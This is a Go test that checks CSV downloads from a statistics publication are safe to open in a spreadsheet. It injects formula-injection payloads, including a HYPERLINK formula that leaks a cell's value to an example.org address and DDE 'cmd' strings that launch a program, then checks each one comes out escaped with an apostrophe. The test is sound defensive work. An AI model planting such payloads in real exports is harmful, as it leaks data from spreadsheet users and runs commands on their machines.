package publish

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/iaptpub/iaptpub"
	"github.com/iaptpub/iaptpub/evaluation/benchmark"
	"github.com/iaptpub/iaptpub/evaluation/export"
	"github.com/iaptpub/iaptpub/evaluation/synth"
)

// Text from outside that a spreadsheet would run as a formula (provider names in the
// national publication) reaches every download with an apostrophe in front; numbers,
// signed ones included (the costs' changes), are untouched. A provider's code in the
// export never gets that far: one that is not an ODS code is a row error. The payloads
// are the tester's.
func TestDownloadsAreSafeInASpreadsheet(t *testing.T) {
	root := t.TempDir()
	exportDir := filepath.Join(root, "export")
	if _, err := synth.Generate(exportDir, synth.Options{Referrals: 400, Seed: 5}); err != nil {
		t.Fatal(err)
	}
	// Provider ZZA of the synthetic export becomes +CMD|x!A0 in every file.
	files, _ := filepath.Glob(filepath.Join(exportDir, "*.csv"))
	for _, name := range files {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(strings.ReplaceAll(string(data), ",ZZA,", ",+CMD|x!A0,")), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	results, report, err := compute(exportDir, iaptpub.Sources, export.Options{}, "")
	if err != nil {
		t.Fatal(err)
	}
	if report.LeftOut() == 0 {
		t.Fatal("the rows of provider +CMD|x!A0 were read: it is not an ODS code")
	}
	national := strings.NewReplacer(
		"ABOVE BOTH", `"=HYPERLINK(""http://example.org/?leak=""&A1,""Click"")"`, // quoted for CSV
		"WITHIN BOTH", "+cmd|' /C calc'!A0",
		"DEMO PROVIDER A", "@SUM(1+1)*cmd|' /C calc'!A0",
	).Replace(handMadeNational)
	file := filepath.Join(root, "hand-made-2024-25.csv")
	if err := os.WriteFile(file, []byte(national), 0o644); err != nil {
		t.Fatal(err)
	}
	if results.Benchmark, err = benchmark.Load(iaptpub.Sources, file); err != nil {
		t.Fatal(err)
	}
	gen, err := Generate(results)
	if err != nil {
		t.Fatal(err)
	}

	want := map[string]bool{ // every payload, as it must appear
		`'=HYPERLINK("http://example.org/?leak="&A1,"Click")`: false,
		`'+cmd|' /C calc'!A0`:          false,
		`'@SUM(1+1)*cmd|' /C calc'!A0`: false,
	}
	signed := 0
	downloads := 0
	for name, data := range gen {
		if !strings.HasPrefix(name, "static/downloads/") || !strings.HasSuffix(name, ".csv") {
			continue
		}
		downloads++
		rows, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if strings.Contains(strings.ToUpper(string(data)), "CMD|X!A0") {
			t.Errorf("%s holds the provider code +CMD|x!A0, which the reader refuses", name)
		}
		for i, row := range rows {
			for _, cell := range row {
				if _, ok := want[cell]; ok {
					want[cell] = true
				}
				if cell == "" {
					continue
				}
				switch cell[0] {
				case '=', '@', '\t', '\r':
					t.Errorf("%s:%d: cell %q would be a formula in a spreadsheet", name, i+1, cell)
				case '+', '-':
					if !isNumber(cell) {
						t.Errorf("%s:%d: cell %q would be a formula in a spreadsheet", name, i+1, cell)
					}
					signed++
				}
			}
		}
	}
	if downloads < 5 {
		t.Fatalf("only %d downloads generated", downloads)
	}
	for payload, seen := range want {
		if !seen {
			t.Errorf("no download has the cell %q", payload)
		}
	}
	if signed == 0 {
		t.Error("no signed number in any download: the test cannot tell they are left alone")
	}
}

// isNumber reports whether s is a plain decimal number, perhaps signed, written here
// independently of package csvsafe.
func isNumber(s string) bool {
	s = strings.TrimLeft(s[:1], "+-") + s[1:]
	dot := false
	for i, r := range s {
		switch {
		case r == '.' && !dot && i > 0:
			dot = true
		case r < '0' || r > '9':
			return false
		}
	}
	return s != ""
}
